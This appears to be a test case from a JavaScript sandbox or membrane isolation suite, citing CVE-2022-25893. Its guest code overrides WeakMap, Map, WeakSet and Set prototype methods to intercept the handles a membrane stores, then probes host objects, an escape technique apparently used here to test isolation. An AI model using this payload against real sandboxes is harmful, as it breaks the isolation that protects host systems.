import type { Attempt } from '../../attempt.ts'

export default {
  technique: 'Replaces the methods of WeakMap and Map that a membrane keeps its objects with.',
  source: 'CVE-2022-25893',
  guest: `
    const got = []
    for (const Class of [WeakMap, Map, WeakSet, Set]) {
      for (const name of ['get', 'set', 'has', 'add', 'delete']) {
        const before = Class.prototype[name]
        if (before) Class.prototype[name] = function (...args) { for (const arg of [this, ...args]) { if ((typeof arg === 'object' || typeof arg === 'function') && arg !== null && ('applySync' in arg || 'copyInto' in arg)) got.push('a handle') } return before.apply(this, args) }
      }
    }
    try { host.give(); host.call(() => host.ledger); climb(host.ledger) } catch {}
    got`,
} satisfies Attempt
